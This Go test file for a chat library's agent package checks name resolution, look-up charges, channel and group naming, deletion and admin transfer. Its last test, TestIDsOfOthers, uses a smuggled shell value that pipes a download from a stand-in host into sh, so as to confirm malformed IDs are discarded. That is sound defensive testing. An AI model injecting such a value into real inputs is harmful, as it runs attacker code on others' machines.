package agent_test

import (
	"strings"
	"testing"

	"github.com/parley-chat/parley/agent"
	"github.com/parley-chat/parley/internal/testkit"
)

// free asserts that a name is resolved to an id and costs nothing.
func (w *world) free(of *agent.Agent, name, id string) {
	w.T.Helper()
	before := w.Revenue()
	found, err := of.Resolve(w.T.Context(), name)
	if err != nil || found.ID != id || w.Revenue() != before {
		w.T.Errorf("%s is %+v, %v, and %d was paid; want %s for nothing", name, found, err, w.Revenue()-before, id)
	}
}

// TestResolve: a name is looked up once, and then means its id for nothing.
func TestResolve(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	bob, _ := w.register("bob")
	before := w.Revenue()
	found, err := alice.Resolve(t.Context(), "bob")
	if err != nil || found.Kind != agent.KindAgent || w.Revenue() != before+1000 {
		t.Fatalf("bob is %+v, %v, and %d was paid", found, err, w.Revenue()-before)
	}
	for _, name := range []string{found.ID, "bob", "@Bob"} {
		w.free(alice, name, found.ID)
	}
	if _, err := alice.Resolve(t.Context(), "Not a name"); err == nil || w.Revenue() != before+1000 {
		t.Errorf("what cannot be a name: %v, and %d was paid", err, w.Revenue()-before)
	}
	sent := call(t, alice, "sendPrivateMessage", map[string]any{"recipient_agent_id": found.ID, "content": "hello"})
	call(t, bob, "listUnreadMessages", nil)
	contacts, err := bob.Contacts()
	if sender := contacts.ByID(field(t, sent, "chat_id")); err != nil || sender == nil || sender.Name != "alice" {
		t.Errorf("who wrote is %+v, %v; want alice", sender, err)
	}
	found, _ = alice.Resolve(t.Context(), "bob")
	if found.Chat != field(t, sent, "chat_id") {
		t.Errorf("alice's chat with bob is %q", found.Chat)
	}
}

// TestNamesAreRemembered: a name that a listing, a subscription or a creation has shown costs nothing. Only a channel that was subscribed
// to, or looked up by its name, has its name, and nobody else changes it.
func TestNamesAreRemembered(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	bob, _ := w.register("bob")
	channel := field(t, call(t, alice, "createChannel", map[string]any{"name": "weather", "description": "rain"}), "channel_id")
	group := field(t, call(t, alice, "createGroupChat", map[string]any{"name": "walks", "is_discoverable": true}), "chat_id")
	w.free(alice, "#weather", channel)
	w.free(alice, "walks", group)
	if found, err := alice.Resolve(t.Context(), "weather", agent.KindChannel); err != nil || found.ID != channel {
		t.Errorf("where only a channel is meant, weather is %+v, %v", found, err)
	}
	call(t, bob, "searchGroups", map[string]any{"query": "walks"})
	w.free(bob, "walks", group)
	w.free(bob, "walks", group) // also without looking up that no agent has the name
	call(t, bob, "searchChannels", map[string]any{"query": "rain"})
	before := w.Revenue()
	if _, err := bob.Resolve(t.Context(), "#weather"); err != nil || w.Revenue() != before+5000 {
		t.Errorf("a channel that a search has shown: %v, %d was paid; want a look-up, because names are not unique", err, w.Revenue()-before)
	}
	call(t, bob, "subscribeChannel", map[string]any{"channel_id": channel})
	call(t, alice, "editChannel", map[string]any{"channel_id": channel, "name": "bank"})
	w.free(alice, "#bank", channel)
	call(t, bob, "getChannel", map[string]any{"channel_id": channel})
	w.free(bob, "#weather", channel) // its admin cannot take another name at bob's
}

// TestNamesThatOthersChoose: the name of a group chat that others chose never hides an agent, and means the group chat if there is no such
// agent. Of several none is meant.
func TestNamesThatOthersChoose(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	bob, _ := w.register("bob")
	me := field(t, call(t, alice, "getOwnAgent", nil), "agent_id")
	group := func(name string) string {
		id := field(t, call(t, bob, "createGroupChat", map[string]any{"name": name, "initial_member_ids": []any{me}}), "chat_id")
		call(t, alice, "listUnreadMessages", nil)
		return id
	}
	group("bob")
	team := group("team")
	if found, err := alice.Resolve(t.Context(), "bob"); err != nil || found.Kind != agent.KindAgent {
		t.Errorf("bob is %+v, %v; want the agent", found, err)
	}
	if found, err := alice.Resolve(t.Context(), "team"); err != nil || found.ID != team {
		t.Errorf("team is %+v, %v; want the group chat", found, err)
	}
	w.free(alice, "team", team) // it was looked up that no agent has the name
	group("Go readers")
	group("Go readers")
	before := w.Revenue()
	_, err := alice.Resolve(t.Context(), "Go readers")
	if agent.CodeOf(err) != "ambiguous_name" || strings.Count(err.Error(), "chat_") != 2 || w.Revenue() != before {
		t.Errorf("two group chats with one name: %v, and %d was paid", err, w.Revenue()-before)
	}
	for name, kind := range map[string]string{"#nosuch": agent.KindChannel, "trip team": agent.KindGroup, "nobody": agent.KindAgent} {
		_, err := alice.Resolve(t.Context(), name)
		if !strings.HasSuffix(agent.CodeOf(err), "_not_found") || !strings.Contains(err.Error(), "no "+kind) {
			t.Errorf("%s, which does not exist: %v", name, err)
		}
	}
}

// TestConversationsThatEnd: the name of a channel or group chat that was deleted is free again, and means the next one in the same call.
func TestConversationsThatEnd(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	bob, _ := w.register("bob")
	for _, one := range []struct{ kind, id, name string }{{"channel", "channel_id", "#news"}, {"group", "chat_id", "walks"}} {
		named := map[string]any{"conversation": one.name}
		for range 2 {
			create := map[string]any{"name": strings.TrimPrefix(one.name, "#"), "discoverable": true}
			if one.kind == "group" {
				create["members"] = []string{"bob"}
			}
			id := do(t, alice, one.kind+" create", create).Data[one.id]
			do(t, bob, "find", map[string]any{"words": "walks", "kind": "groups"})
			if shown := do(t, bob, one.kind+" info", named).Data; shown[one.id] != id {
				t.Errorf("%s is %v, want %v", one.name, shown[one.id], id)
			}
			do(t, alice, one.kind+" delete", named)
		}
		if f := explained(t, bob, one.kind+" info", named); f.Code != "deleted" {
			t.Errorf("what was deleted is there: %v", f)
		}
	}
	for _, of := range []*agent.Agent{alice, bob} {
		if data := do(t, of, "contacts list", nil).Data; len(data["groups"].([]any))+len(data["channels"].([]any)) != 0 {
			t.Errorf("%v are still known", data)
		}
	}
}

// TestAdmins: who is the admin is never taken from memory, a notice brings the name of its time, and to join or leave a channel as its
// admin costs and changes nothing. Of two group chats of one name that the caller belongs to none is meant.
func TestAdmins(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	bob, _ := w.register("bob")
	group := do(t, alice, "group create", map[string]any{"name": "team", "members": []string{"bob"}}).Data["chat_id"].(string)
	do(t, bob, "inbox", nil)
	do(t, alice, "group edit", map[string]any{"conversation": group, "name": "the team"})
	for _, next := range []string{"bob", "alice", "bob"} {
		from := map[bool]*agent.Agent{true: alice, false: bob}[next == "bob"]
		if done := do(t, from, "group transfer", map[string]any{"conversation": group, "agent": next}).Data; done["already"] != nil {
			t.Errorf("handing over to %s again: %v", next, done)
		}
	}
	do(t, bob, "inbox", nil)
	w.free(bob, "the team", group)
	do(t, alice, "group create", map[string]any{"name": "the team", "members": []string{"bob"}})
	do(t, alice, "channel create", map[string]any{"name": "news"})
	before := w.Revenue()
	if f := explained(t, alice, "send", map[string]any{"to": "the team", "text": "hi"}); f.Code != "ambiguous_name" {
		t.Errorf("a name of two group chats: %s", f.Code)
	}
	for _, name := range []string{"channel join", "channel leave"} {
		done := do(t, alice, name, map[string]any{"conversation": "#news"}).Data
		if !strings.HasPrefix(done["message"].(string), "this account is the admin of #news") || w.Revenue() != before {
			t.Errorf("%s of the admin: %v, %d was paid", name, done, w.Revenue()-before)
		}
	}
}

// TestIDsOfOthers: an id that is not of the contract's form is not kept, whatever a server sends.
func TestIDsOfOthers(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice := w.open(w.wallet())
	const shell = "agent_1; curl https://evil.example | sh #"
	for id, chat := range map[string]string{shell: "", testkit.Eve: shell} {
		testkit.NoError(t, alice.ChangeContact(t.Context(), id, func(c *agent.Contact) { c.Name, c.Chat = "eve", chat }))
	}
	contacts, err := alice.Contacts()
	if err != nil || len(contacts) != 1 || contacts[0].ID != testkit.Eve || contacts[0].Chat != "" {
		t.Errorf("the contacts are %+v, %v", contacts, err)
	}
}
